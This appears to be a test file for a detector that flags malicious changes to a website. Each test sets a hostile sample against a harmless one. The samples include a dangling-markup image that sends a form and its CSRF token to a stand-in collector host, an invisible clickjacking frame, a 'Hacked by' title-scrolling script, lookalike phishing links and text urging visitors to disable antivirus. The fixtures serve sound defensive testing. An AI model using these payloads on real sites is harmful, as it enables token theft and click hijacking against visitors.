/**
 * The rules of round 10 (tuned on fresh8 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 10: where links lead", () => {
  it("a link pointed at an archive's copy of where it led is mended, not retargeted; pointed at another site it is retargeted", () => {
    const link = (href: string) => `<p>Our flour comes from <a href="${href}">Yorkshire Mill</a>.</p>`
    const base = baselineOf(samples((seed) => page({ seed, body: link("https://www.yorkshiremill.co.uk/flour") })))
    const archived = verdictOf(page({ seed: 4, body: link("https://web.archive.org/web/2021/https://www.yorkshiremill.co.uk/flour") }), base)
    expect(archived.alert).toBe(false)
    const moved = verdictOf(page({ seed: 4, body: link("https://yorkshire-flour-deals.example.top/flour") }), base)
    expect(breaches(moved)).toContain("destinations/link_retargeted")
  })

  it("a new link to a domain posing as a much-impersonated brand alerts; the brand's own site and names that merely contain it do not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Free Nitro for our followers: <a href="https://dicsord.io/gift/x1">claim</a></p>` })))).toContain("destinations/link_brand_lookalike")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="https://roblox-gift.com/claim">Free Robux</a></p>` })))).toContain("destinations/link_brand_lookalike")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Read the review on <a href="https://appleinsider.com/articles/x">AppleInsider</a> and <a href="https://www.telegraph.co.uk/food/">the Telegraph</a>.</p>` })))).not.toContain("destinations/link_brand_lookalike")
  })

  it("an address that holds the page's own markup (dangling markup) is critical", () => {
    // (the open quote runs to the next one: the order form and its token go into the image's address)
    const v = verdictOf(page({ seed: 4, body: `<img src='https://collect.example.top/log?d=<form action="/order" method="post"><input type="hidden" name="csrf" value="t0k3n"><input name="qty"></form><p>A baker's dozen is thirteen.</p>` }))
    expect(breaches(v)).toContain("destinations/url_swallows_markup")
    expect(checks(verdictOf(page({ seed: 4, body: `<a href="https://www.example.org/search?q=bread%20and%20butter">recipes</a>` })))).not.toContain("destinations/url_swallows_markup")
  })

  it("an archive on a file locker alerts even when the address names no file; a link to a shared folder is a sign", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<a href="https://www.mediafire.com/file/abc123/Setup_2291.zip/file">Full version</a>` }))).length).toBeGreaterThan(0)
    const folder = verdictOf(page({ seed: 4, body: `<p>Photos from the summer fair: <a href="https://pixeldrain.com/u/9uitpzxe">album</a></p>` }))
    expect(folder.findings.find((f) => f.check === "link_file_locker")?.severity).toBe("medium")
    expect(folder.alert).toBe(false)
  })
})

describe("round 10: what the page asks and shows", () => {
  it("new text asking visitors to switch off their antivirus alerts; text about antivirus software does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Password: 2025. Disable your antivirus before installing (false positive).</p>` })))).toContain("visible_text/disable_security")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Keep your antivirus up to date and never share your password.</p>` })))).not.toContain("visible_text/disable_security")
  })

  it("what a new script spells into the window's title is read as the title; a basket reminder is not an alarm", () => {
    const scroll = `<script>var m=" ~ Hacked by Red Owl Crew ~ this site is ours ~ ",n=0;setInterval(function(){n=(n+1)%m.length;document.title=m.substring(0,n)},150)</script>`
    expect(verdictOf(page({ seed: 4, body: scroll })).alert).toBe(true)
    const remind = `<script>var t=document.title;document.addEventListener("visibilitychange",function(){document.title=document.hidden?"Come back, your cake is waiting":t})</script>`
    expect(verdictOf(page({ seed: 4, body: remind })).alert).toBe(false)
  })

  it("an invisible frame kept under the pointer alerts; a tooltip that follows the pointer does not", () => {
    const like = `<div id="k" style="position:absolute;opacity:0.001;z-index:99999"><iframe src="https://www.facebook.com/plugins/like.php?href=x"></iframe></div><script>document.addEventListener("mousemove",function(e){var d=document.getElementById("k");d.style.left=(e.pageX-10)+"px";d.style.top=(e.pageY-10)+"px"})</script>`
    expect(breaches(verdictOf(page({ seed: 4, body: like })))).toContain("destinations/frame_under_pointer")
    const tip = `<div id="tip" class="tooltip">Fresh today</div><script>document.addEventListener("mousemove",function(e){var d=document.getElementById("tip");d.style.left=(e.pageX+12)+"px";d.style.top=(e.pageY+12)+"px"})</script>`
    expect(verdictOf(page({ seed: 4, body: tip })).alert).toBe(false)
  })
})

describe("round 10: identifiers", () => {
  it("a new premium-rate number alerts; a new ordinary number is context", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Call connection service: 0905 960 1234 (calls cost £3.60 per minute plus your phone company's access charge)</p>` })))).toContain("identifiers/phone_premium_rate")
    expect(verdictOf(page({ seed: 4, body: `<p>Our new café line: 01947 600 456</p>` })).alert).toBe(false)
  })

  it("a PayPal button on a page that never took payment is a payment destination", () => {
    const v = verdictOf(page({ seed: 4, body: `<form action="https://www.paypal.com/donate" method="post"><input type="hidden" name="hosted_button_id" value="JSFU74ANCQBJS"><input type="image" src="https://www.paypalobjects.com/en_GB/i/btn/btn_donate_LG.gif" alt="Donate"></form>` }))
    expect(breaches(v)).toContain("identifiers/pay_appeared")
  })

  it("a token's contract address (\"CA:\") is a crypto address", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>$HARBOUR token now live. CA: 4dKDoyCXUT9pNLHCaJwwSU494SLCNd61xuBpmRQmoon</p>` })))).toContain("identifiers/wallet_appeared")
  })

  it("one new number written in three or more places alerts; once, it is context", () => {
    const spam = ["Norton", "Air France", "Outlook"].map((b) => `<li>How do I talk to a live person at ${b}? Call +1-833-759-5432</li>`).join("")
    expect(breaches(verdictOf(page({ seed: 4, body: `<ul>${spam}</ul>` })))).toContain("identifiers/phone_repeated")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Wedding cake enquiries: +44 1947 600 789</p>` })))).not.toContain("identifiers/phone_repeated")
  })
})
